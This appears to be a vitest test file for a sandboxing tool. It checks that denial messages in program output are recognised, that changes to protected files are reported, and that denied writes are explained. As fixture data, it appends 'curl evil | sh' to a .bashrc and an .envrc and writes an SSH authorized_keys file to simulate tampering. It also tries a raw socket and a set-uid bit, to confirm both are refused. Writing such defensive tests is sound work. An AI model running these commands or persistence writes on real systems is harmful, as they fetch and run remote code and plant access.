import { appendFile, mkdir, rm, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { describe, expect, test } from 'vitest'
import { makeGround, runIn } from '../fixture.ts'
import { detectHost } from '../host/host.ts'
import { listLeftovers } from '../limits/leftovers.ts'
import { watchProtected } from '../plan/protect.ts'
import type { WorkspaceRoot } from '../../base/workspace.ts'
import { writeReason } from '../plan/writeReason.ts'
import { DeniedWrites, DenialReader, readDenial } from './violations.ts'

const at = '2026-01-01T00:00:00.000Z'

describe('a likely denial', () => {
  test.each([
    ["touch: cannot touch 'x': Read-only file system", 'write_denied'],
    ["Error: EROFS: read-only file system, open '/projects/a'", 'write_denied'],
    ['curl: (6) Could not resolve host: example.com', 'name_denied'],
    ['Error: getaddrinfo EAI_AGAIN registry.example.com', 'name_denied'],
    ['connect: Network is unreachable', 'network_denied'],
    ['unshare: unshare failed: Operation not permitted', 'call_denied'],
    ['socket: Operation not permitted', 'socket_denied'],
    ['ping: socket: Operation not permitted', 'socket_denied'],
    ["chmod: changing permissions of 'x': Operation not permitted", 'call_denied'],
    ["Error: EPERM: operation not permitted, chmod 'x'", 'call_denied'],
    ['Os { code: 1, kind: PermissionDenied, message: "Operation not permitted" }', 'call_denied'],
    ['chroot: cannot change root directory: Operation not permitted', 'call_denied'],
    ['PermissionError: [Errno 1] Operation not permitted', 'call_denied'],
    ['socket: Address family not supported by protocol', 'socket_denied'],
    ['sh: 0: Cannot fork', 'pids'],
    ['bash: fork: retry: Resource temporarily unavailable', 'pids'],
    ['Error: spawn node EAGAIN', 'pids'],
  ])('is read from %j', (line, kind) => {
    expect(readDenial(line, at)).toMatchObject({ kind, at, certain: false })
    const amidMuchElse = `${'nothing of note\n'.repeat(500)}\u001B[1m${line}\u001B[0m\n`
    expect(new DenialReader().read(amidMuchElse, at)).toMatchObject([{ kind }])
  })

  test.each([
    'Permission denied (publickey)',
    'all 12 tests passed',
    'mounting failed',
    'it answers that the operation not permitted is refused',
    "PermissionError: [Errno 13] Permission denied: 'x'",
    'Orangery could not reach registry.test:8080: ENOTFOUND',
    'Orangery could not reach registry.test:8080: EHOSTUNREACH',
    '',
  ])('is not read from %j', (line) => {
    expect(readDenial(line, at)).toBeNull()
  })

  test('is told once, however often it is printed and in whatever pieces it comes', () => {
    const reader = new DenialReader()
    const line = '\u001B[31mtouch: x: Read-only file system\u001B[0m\r\n'
    const pieces = [...(line + line)].map((letter) => reader.read(letter, at))
    expect(pieces.flat()).toHaveLength(1)
    reader.read('y: Read-only file', at)
    expect(reader.read(' system', at)).toEqual([])
    expect(reader.end(at)).toHaveLength(1)
  })

  test('beyond the hundredth of a stream is left out, and that is said once', () => {
    const reader = new DenialReader()
    const lines = Array.from({ length: 300 }, (_, index) => `touch: file-${index}: Read-only file system\n`)
    const found = [...lines.flatMap((line) => reader.read(line, at)), ...reader.end(at)]
    expect(found).toHaveLength(101)
    expect(found.filter(({ detail }) => detail.includes('left out'))).toEqual([
      { kind: 'write_denied', at, detail: expect.stringContaining('the first 100'), certain: false },
    ])
    expect(found.at(-1)?.detail).toContain('left out')
  })

  test('is what a real program prints that is refused a raw socket or a set-uid bit, with the call it made', async () => {
    await using ground = await makeGround()
    const host = await detectHost(ground.dataDir)
    const script =
      'python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)"; touch x; chmod u+s x'
    const { stderr } = await runIn(ground, host, script)
    for (const pieces of [[stderr], [...stderr]]) {
      const reader = new DenialReader()
      const found = [...pieces.flatMap((piece) => reader.read(piece, at)), ...reader.end(at)]
      expect(found.map(({ kind }) => kind)).toEqual(['socket_denied', 'call_denied'])
      expect(found[0]?.detail).toMatch(/socket.*\(.*\): PermissionError.*no raw ones\)$/)
      expect(found[1]?.detail).toContain('set-uid')
      expect(found.every(({ certain }) => !certain)).toBe(true)
    }
  })

  test('is what a real program prints when it is refused, at once', async () => {
    await using ground = await makeGround()
    const host = await detectHost(ground.dataDir)
    const script =
      'touch new; exec 2>&1; node -e \'fetch("http://example.test").catch((e) => console.log(e.cause.code))\''
    const outcome = await runIn(ground, host, script, { files: 'ro' })
    const reader = new DenialReader()
    const found = [...reader.read(outcome.stderr, at), ...reader.read(outcome.stdout, at)]
    expect(found.map(({ kind }) => kind)).toEqual(['write_denied', 'name_denied'])
    expect(outcome.resources.wall_ms).toBeLessThan(10_000)
  })
})

test('protected files that change during a run are told at its end, and only those', async () => {
  await using ground = await makeGround()
  const home = join(ground.folder, 'user-home')
  await mkdir(join(home, '.ssh'), { recursive: true })
  await writeFile(join(home, '.bashrc'), 'alias ll=ls\n')
  await writeFile(join(home, '.gitconfig'), '[user]\n')
  const hook = join(ground.root, '.git', 'hooks', 'pre-commit')
  await mkdir(join(ground.root, '.git', 'hooks'), { recursive: true })
  await writeFile(hook, 'exit 0\n')
  await writeFile(join(ground.root, 'gone'), '')
  await mkdir(join(ground.root, 'deep'))
  await writeFile(join(ground.root, 'deep', 'gone'), '')
  // The clock of files ticks slowly.
  await sleep(20)
  const watch = await watchProtected(ground.request(['true']), home)
  await sleep(20)
  expect(await watch.check(at)).toEqual([])
  await appendFile(join(home, '.bashrc'), 'curl evil | sh\n')
  await writeFile(join(home, '.ssh', 'authorized_keys'), 'key\n')
  await rm(join(home, '.gitconfig'))
  await writeFile(join(ground.root, '.envrc'), 'curl evil | sh\n')
  await writeFile(hook, 'exit 1\n')
  await writeFile(join(ground.root, '.git', 'index'), 'staged by the user\n')
  await writeFile(join(ground.root, 'README.md'), 'edited by the user\n')
  await rm(join(ground.root, 'deep', 'gone'))
  const found = await watch.check(at)
  expect(found.every(({ certain }) => !certain)).toBe(true)
  const inRoot = found.filter(({ detail }) => detail.startsWith(`${ground.root} was changed`))
  expect(inRoot.map(({ detail }) => detail.split(' (')[0]?.split(': ')[1]?.split(', ').toSorted())).toEqual([
    ['"README.md"', '"deep"'],
  ])
  expect(inRoot[0]?.detail).toContain('likely by the user or another program')
  const changed = found.flatMap((one) => (inRoot.includes(one) ? [] : [one.detail.split(' ')[0]]))
  expect(changed.sort()).toEqual(
    [
      join(home, '.bashrc'),
      join(home, '.gitconfig'),
      join(home, '.ssh'),
      join(home, '.ssh', 'authorized_keys'),
      join(ground.root, '.envrc'),
      hook,
    ].sort(),
  )
  // What we wrote there ourselves is none of it, and hides nothing beside it.
  const ours = [join(home, '.bashrc'), join(ground.root, 'README.md')]
  const rest = (await watch.check(at, ours)).map(({ detail }) => detail).join('\n')
  expect(rest).not.toMatch(/\.bashrc|README\.md/)
  expect(rest).toMatch(/authorized_keys/)
  expect(rest).toMatch(/"deep"/)
})

test('what tools leave in the home is listed', async () => {
  await using ground = await makeGround()
  const host = await detectHost(ground.dataDir)
  await runIn(
    ground,
    host,
    'mkdir -p ~/.cache/tool; head -c 100000 /dev/zero >~/.cache/tool/big; head -c 50000 /dev/zero >~/.history',
  )
  const leftovers = await listLeftovers(ground.home)
  expect(leftovers.map(({ path }) => path)).toEqual(['~/.cache', '~/.history'])
  expect(leftovers[0]?.bytes).toBeGreaterThan(99_000)
  expect(leftovers[1]?.bytes).toBeGreaterThan(49_000)
})

test('a denied write is told with the reason that it was, of those that there are', () => {
  const root = (target: string, access: 'rw' | 'ro') => ({ target, path: target, access }) as WorkspaceRoot
  const roots = [root('/shop', 'rw'), root('/shop/fixed', 'ro')]
  const why = (text: string, scope: readonly string[] | null) => {
    const reason = (path: string | null) => writeReason(path, { roots, scope })
    return new DenialReader(reason).read(`${text}\n`, at)[0]?.detail.slice(text.length)
  }
  const outside = ' (only the workspace can be written, /shop, /shop/fixed)'
  const fixed = ' (/shop/fixed is read-only for it, whatever its boundary)'
  const readonly =
    ' (its boundary is readonly now: the workspace can be read, and written once the boundary is readwrite)'
  const [usr, inFixed, inShop, relative] = [
    "touch: cannot touch '/usr/x': Read-only file system",
    'sh: 1: cannot create /shop/fixed/x: Read-only file system',
    "OSError: [Errno 30] Read-only file system: '/shop/x'",
    '/bin/bash: line 1: x: Read-only file system',
  ]
  for (const scope of [null, []]) {
    expect(why(usr, scope)).toBe(outside)
    expect(why(inFixed, scope)).toBe(fixed)
  }
  expect(why(inShop, [])).toBe(readonly)
  expect(why(relative, [])).toBe(readonly)
  expect(why(inShop, ['/shop/TODO.md'])).toBe(' (at its boundary now only /shop/TODO.md can be written)')
  expect(why(relative, null)).toBe(
    ' (only the workspace can be written, /shop, /shop/fixed, and of that not /shop/fixed, which is read-only)',
  )
})

test('a write that was seen and is printed too is told once, as likely and with a reason, whichever comes first', () => {
  const writes = new DeniedWrites()
  const told = writes.seen('/project/new', at)
  expect(told).toMatchObject({ kind: 'write_denied', certain: false })
  expect(told?.detail).toMatch(/^\/project\/new \(only the workspace can be written/)
  expect(writes.isNewsPrinted("touch: cannot touch 'new': Read-only file system")).toBe(false)
  expect(writes.isNewsPrinted("touch: cannot touch 'newer': Read-only file system")).toBe(true)
  expect(writes.seen('/project/newer', at)).toBeNull()
})

test('a program that names no file speaks of the write that was seen, once for each', () => {
  const writes = new DeniedWrites()
  const denial = (said: string) => readDenial(said, at)?.detail ?? ''
  writes.seen('/project/f', at)
  expect(writes.isNewsPrinted(denial("touch: cannot touch '/usr/f2': Read-only file system"))).toBe(true)
  expect(writes.isNewsPrinted(denial('failed: Read-only file system'))).toBe(false)
  expect(writes.isNewsPrinted(denial('failed again: Read-only file system'))).toBe(true)
})
